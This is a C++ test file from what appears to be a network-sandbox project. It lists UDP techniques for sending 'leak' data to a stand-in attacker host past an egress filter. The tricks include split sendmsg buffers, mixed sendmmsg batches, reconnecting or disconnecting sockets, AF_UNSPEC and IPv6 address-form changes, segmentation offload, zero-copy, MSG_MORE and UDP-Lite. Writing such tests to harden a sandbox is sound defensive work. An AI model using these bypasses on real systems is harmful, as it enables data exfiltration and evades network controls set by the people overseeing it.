// SPDX-License-Identifier: Apache-2.0
// The ways of udp(7) to name a destination.
#include <unistd.h>

#include <cerrno>
#include <cstring>

#include "tests/attacks/attack.h"

namespace weir::lab {
namespace {

constexpr int kUdpSegment = 103;  // UDP_SEGMENT, linux/udp.h

// A socket that is connected where the job may send, and has sent there.
Fd Innocent(int family) {
  const SocketName to = Name(family == AF_INET ? kAllowedHost : kAllowedHost6, 443);
  Fd fd(socket(family, SOCK_DGRAM, 0));
  if (connect(fd.get(), to.get(), to.length) || send(fd.get(), "x", 1, 0) != 1) fd.Reset();
  return fd;
}

msghdr Message(const SocketName& to, iovec* data) {
  msghdr message{};
  message.msg_name = const_cast<sockaddr*>(to.get());
  message.msg_namelen = to.length;
  message.msg_iov = data;
  message.msg_iovlen = 1;
  return message;
}

int SendMsg(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd(socket(to.family(), SOCK_DGRAM, 0));
  // In two pieces: who looks at the first one only does not see the secret.
  iovec data[] = {{const_cast<char*>("x"), 1}, {const_cast<char*>(aim.data.data()), aim.data.size()}};
  msghdr message = Message(to, data);
  message.msg_iovlen = 2;
  return Errno(sendmsg(fd.get(), &message, 0));
}

// Allowed, refused, allowed: the call stops at the second, which leaves the sender with a count and no error.
int SendMMsg(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  const SocketName fine = Name(to.family() == AF_INET ? kAllowedHost : kAllowedHost6, 443);
  const Fd fd(socket(to.family(), SOCK_DGRAM, 0));
  iovec secret{const_cast<char*>(aim.data.data()), aim.data.size()}, nothing{const_cast<char*>("x"), 1};
  mmsghdr messages[3] = {{Message(fine, &nothing), 0}, {Message(to, &secret), 0}, {Message(fine, &nothing), 0}};
  const int sent = sendmmsg(fd.get(), messages, 3, 0);
  return sent == 1 ? EPERM : sent == 3 ? 0 : kBroken;
}

int OtherAddressOnConnected(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd = Innocent(to.family());
  if (!fd) return kBroken;
  return Errno(sendto(fd.get(), aim.data.data(), aim.data.size(), 0, to.get(), to.length));
}

int Reconnect(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd = Innocent(to.family());
  if (!fd) return kBroken;
  if (connect(fd.get(), to.get(), to.length)) return errno;
  return Errno(send(fd.get(), aim.data.data(), aim.data.size(), 0));
}

int DisconnectThenSendTo(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd = Innocent(to.family());
  sockaddr none{};
  none.sa_family = AF_UNSPEC;
  if (!fd || connect(fd.get(), &none, sizeof(none))) return kBroken;
  return Errno(sendto(fd.get(), aim.data.data(), aim.data.size(), 0, to.get(), to.length));
}

int DisconnectThenConnect(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd = Innocent(to.family());
  sockaddr none{};
  none.sa_family = AF_UNSPEC;
  if (!fd || connect(fd.get(), &none, sizeof(none))) return kBroken;
  if (connect(fd.get(), to.get(), to.length)) return errno;
  return Errno(send(fd.get(), aim.data.data(), aim.data.size(), 0));
}

// udp_sendmsg() takes AF_UNSPEC for AF_INET.
int UnspecifiedFamily(const Aim& aim) {
  SocketName to = Name(aim.address, aim.port);
  const Fd fd(socket(AF_INET, SOCK_DGRAM, 0));
  to.storage.ss_family = AF_UNSPEC;
  return Errno(sendto(fd.get(), aim.data.data(), aim.data.size(), 0, to.get(), to.length));
}

int Ipv4NameOnIpv6Socket(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd(socket(AF_INET6, SOCK_DGRAM, 0));
  return Errno(sendto(fd.get(), aim.data.data(), aim.data.size(), 0, to.get(), to.length));
}

// A socket that was made for IPv6, connected to a mapped address and turned into an IPv4 one.
int AddressFormChanged(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port), fine = Name(std::string("::ffff:") + kAllowedHost, 443);
  const Fd fd(socket(AF_INET6, SOCK_DGRAM, 0));
  const int family = AF_INET;
  if (connect(fd.get(), fine.get(), fine.length) ||
      setsockopt(fd.get(), SOL_IPV6, 1 /* IPV6_ADDRFORM */, &family, sizeof(family)))
    return kBroken;
  return Errno(sendto(fd.get(), aim.data.data(), aim.data.size(), 0, to.get(), to.length));
}

int Segments(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd(socket(to.family(), SOCK_DGRAM, 0));
  const int size = 32;
  if (setsockopt(fd.get(), IPPROTO_UDP, kUdpSegment, &size, sizeof(size))) return kBroken;
  return Errno(sendto(fd.get(), aim.data.data(), aim.data.size(), 0, to.get(), to.length));
}

int ZeroCopy(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd(socket(to.family(), SOCK_DGRAM, 0));
  const int on = 1;
  if (setsockopt(fd.get(), SOL_SOCKET, SO_ZEROCOPY, &on, sizeof(on))) return kBroken;
  return Errno(sendto(fd.get(), aim.data.data(), aim.data.size(), MSG_ZEROCOPY, to.get(), to.length));
}

// The first piece names the destination of what the second one sends.
int InPieces(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd(socket(to.family(), SOCK_DGRAM, 0));
  if (sendto(fd.get(), aim.data.data(), aim.data.size(), MSG_MORE, to.get(), to.length) < 0) return errno;
  return Errno(sendto(fd.get(), "x", 1, 0, to.get(), to.length));
}

// Where TCP may go, a UDP connect() is answered as the question for a route that it usually is.
int WhereOnlyTcpMayGo(const Aim& aim) { return UdpConnected(aim); }

int UdpLite(const Aim& aim) {
  const SocketName to = Name(aim.address, aim.port);
  const Fd fd(socket(to.family(), SOCK_DGRAM, IPPROTO_UDPLITE));
  if (!fd) return errno == EPROTONOSUPPORT ? kMissing : errno;
  return Errno(sendto(fd.get(), aim.data.data(), aim.data.size(), 0, to.get(), to.length));
}

}  // namespace

std::vector<Attack> DatagramAttacks() {
  return {
      {"Connected", UdpConnected, kEvil},
      {"Connected6", UdpConnected, kEvil6},
      {"ConnectedMapped", UdpConnected, "::ffff:203.0.113.66"},
      {"SendTo", UdpSendTo, kEvil},
      {"SendTo6", UdpSendTo, kEvil6},
      {"SendToMapped", UdpSendTo, "::ffff:203.0.113.66"},
      {"SendToNat64", UdpSendTo, "64:ff9b::cb00:7142", 443, 0, "leak", kEvil},
      {"RightHostWrongPort", UdpSendTo, kAllowedHost, 444},
      {"SendMsg", SendMsg, kEvil},
      {"SendMMsgMixed", SendMMsg, kEvil},
      {"SendMMsgMixed6", SendMMsg, kEvil6},
      {"OtherAddressOnConnected", OtherAddressOnConnected, kEvil},
      {"OtherAddressOnConnected6", OtherAddressOnConnected, kEvil6},
      {"Reconnect", Reconnect, kEvil},
      {"Reconnect6", Reconnect, kEvil6},
      {"DisconnectThenSendTo", DisconnectThenSendTo, kEvil},
      {"DisconnectThenSendTo6", DisconnectThenSendTo, kEvil6},
      {"DisconnectThenConnect", DisconnectThenConnect, kEvil},
      {"UnspecifiedFamily", UnspecifiedFamily, kEvil},
      {"Ipv4NameOnIpv6Socket", Ipv4NameOnIpv6Socket, kEvil},
      {"AddressFormChanged", AddressFormChanged, kEvil},
      {"Segments", Segments, kEvil, 443, 0, std::string(100, 'x') + "leak"},
      {"ZeroCopy", ZeroCopy, kEvil, 443, 0, "leak" + std::string(8000, 'x')},
      {"InPieces", InPieces, kEvil},
      {"WhereOnlyTcpMayGo", WhereOnlyTcpMayGo, kTcpOnlyHost},
      {"UdpLite", UdpLite, kEvil, 443, kMayBeMissing},
      {"Quic", UdpConnected, kTcpOnlyHost, 443},
      {"Ntp", UdpSendTo, kEvil, 123},
      {"PortZero", UdpConnected, kEvil, 0, kUntold},
  };
}

}  // namespace weir::lab
